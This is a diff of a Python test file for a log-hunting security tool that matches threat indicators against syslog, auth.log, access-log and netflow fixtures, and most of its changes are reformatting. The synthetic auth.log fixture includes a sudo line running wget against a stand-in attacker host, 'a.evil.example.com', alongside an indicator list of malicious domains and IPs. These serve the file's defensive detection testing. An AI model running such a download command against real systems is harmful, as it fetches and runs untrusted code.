@@ -1,5 +1,5 @@
-"""`minisoc hunt` over saved syslog files (rsyslog JSON, auth.log text, an access log) and flow JSON, next to a
-Zeek log: the same pipeline, ECS alerts with `event.dataset` syslog/netflow, `ip-dst|port` matched with the
+"""`minisoc hunt` over saved syslog files (rsyslog JSON, auth.log text, an access log) and flow JSON, next to
+a Zeek log: the same pipeline, ECS alerts with `event.dataset` syslog/netflow, `ip-dst|port` matched with the
 flow's destination port, no substring matches, malformed lines counted (never lost well-formed records), and
 the same alert ids on every read."""
 
@@ -21,26 +21,29 @@ ATTRIBUTES = [("ip-dst|port", "203.0.113.9|443"), ("domain", "evil.example.com")
               ("email-src", "bad@phish.example.net"), ("url", "https://www.example.org/phish/login"),
               ("ip-src", "198.51.100.7"), ("ip-dst", "192.0.2.200")]
 SYSLOG_JSON = [
-    {"minisoc_input": "syslog", "@timestamp": "2026-12-04T21:15:55+00:00", "host": "mx", "from_ip": "192.0.2.7",
-     "program": "postfix", "pid": "98", "facility": "mail", "severity": "info",
+    {"minisoc_input": "syslog", "@timestamp": "2026-12-04T21:15:55+00:00", "host": "mx",
+     "from_ip": "192.0.2.7",     "program": "postfix", "pid": "98", "facility": "mail", "severity": "info",
      "message": "4F2A31C0: from=<Bad@Phish.Example.net>, size=1234, nrcpt=1 (queue active)", "protocol": "1"},
-    {"minisoc_input": "syslog", "@timestamp": "2026-12-04T21:15:56+00:00", "host": "gw1", "program": "dnsmasq",
-     "message": "query[A] evil.example.com.attacker.net from 192.0.2.50; reply x1.192.0.2.200 is notevil.example.co"},
+    {"minisoc_input": "syslog", "@timestamp": "2026-12-04T21:15:56+00:00", "host": "gw1",
+     "program": "dnsmasq", "message": "query[A] evil.example.com.attacker.net from 192.0.2.50; reply "
+                                      "x1.192.0.2.200 is notevil.example.co"},
 ]
 AUTH_LOG = """\
 Dec  4 21:15:53 gw1 sshd[812]: Failed password for root from 198.51.100.7 port 4711 ssh2
-Dec  4 21:15:54 gw1 sshd[812]: Accepted publickey for alice from 192.0.2.10 port 50122 ssh2: ED25519 SHA256:abc
+Dec  4 21:15:54 gw1 sshd[812]: Accepted publickey for alice from 192.0.2.10 port 50122 ssh2: RSA SHA256:ab
 this line is no syslog
 Dec  4 21:16:01 gw1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/wget http://a.evil.example.com/x
 """
-ACCESS_LOG = ('www.example.org:443 203.0.113.80 - - [04/Dec/2026:21:15:53 +0000] "GET /phish/login?user=1 HTTP/1.1" '
+ACCESS_LOG = ('www.example.org:443 203.0.113.80 - - [04/Dec/2026:21:15:53 +0000] '
+              '"GET /phish/login?user=1 HTTP/1.1" '
               '200 512 "-" "curl/8.5.0"\n')
 FLOWS = [
     {"event_type": "purge", "peer_ip_src": "192.0.2.1", "ip_src": "192.0.2.10", "ip_dst": "203.0.113.9",
      "port_src": 51234, "port_dst": 443, "ip_proto": "tcp", "timestamp_start": "2026-12-04 21:15:53.000000",
      "packets": 10, "bytes": 1234},
-    {"event_type": "purge", "ip_src": "192.0.2.10", "ip_dst": "203.0.113.9", "port_src": 51235, "port_dst": 80,
-     "ip_proto": "tcp", "timestamp_start": "2026-12-04 21:15:54.000000", "packets": 1, "bytes": 60},
+    {"event_type": "purge", "ip_src": "192.0.2.10", "ip_dst": "203.0.113.9", "port_src": 51235,
+     "port_dst": 80, "ip_proto": "tcp", "timestamp_start": "2026-12-04 21:15:54.000000", "packets": 1,
+     "bytes": 60},
 ]
 
 
@@ -73,7 +76,8 @@ def hunt(paths: dict[str, Path], tmp_path: Path) -> tuple[list[Alert], Any]:
 
 
 def matched(alert: Alert) -> list[tuple[str, str]]:
-    return [(item["matched"]["field"], item["matched"]["atomic"]) for item in alert.doc["threat"]["enrichments"]]
+    return [(item["matched"]["field"], item["matched"]["atomic"])
+            for item in alert.doc["threat"]["enrichments"]]
 
 
 def test_hunt_over_syslog_and_flow_files(tmp_path: Path) -> None:
@@ -88,11 +92,13 @@ def test_hunt_over_syslog_and_flow_files(tmp_path: Path) -> None:
         ("destination.ip", "203.0.113.9"),
     }
     flow = by_field[("destination.ip", "203.0.113.9")]
-    assert flow.doc["event"]["dataset"] == "netflow" and flow.doc["destination"] == {"ip": "203.0.113.9", "port": 443}
+    assert flow.doc["event"]["dataset"] == "netflow"
+    assert flow.doc["destination"] == {"ip": "203.0.113.9", "port": 443}
     assert flow.doc["network"]["transport"] == "tcp" and flow.doc["threat"]["indicator"]["port"] == 443
     assert len([a for a in alerts if a.doc["event"]["dataset"] == "netflow"]) == 1  # the port-80 flow: none
     ssh = by_field[("source.ip", "198.51.100.7")]
-    assert ssh.doc["event"]["dataset"] == "syslog" and ssh.doc["source"] == {"ip": "198.51.100.7", "port": 4711}
+    assert ssh.doc["event"]["dataset"] == "syslog"
+    assert ssh.doc["source"] == {"ip": "198.51.100.7", "port": 4711}
     assert ssh.doc["log"]["syslog"]["appname"] == "sshd" and ssh.doc["user"]["name"] == "root"
     assert ssh.doc["message"].startswith("Failed password") and "zeek" not in ssh.doc
     assert ssh.doc["log"]["file"]["path"] == str(paths["auth"])
@@ -124,7 +130,7 @@ def test_the_same_alert_ids_on_every_read_and_through_the_record_path(tmp_path: 
 
 
 def test_zeek_json_and_tsv_are_not_taken_for_inputs(tmp_path: Path) -> None:
-    """The sniff leaves Zeek's own records (syslog.log and reporter.log have a `message`) to the Zeek parsers."""
+    """The sniff leaves Zeek's own records (syslog.log, reporter.log have a `message`) to the Zeek parsers."""
     zeek = tmp_path / "syslog.log"
     zeek.write_text('{"ts":1733346953.5,"uid":"C1","id.orig_h":"192.0.2.5","id.orig_p":514,'
                     '"id.resp_h":"192.0.2.6","id.resp_p":514,"proto":"udp","facility":"AUTH",'
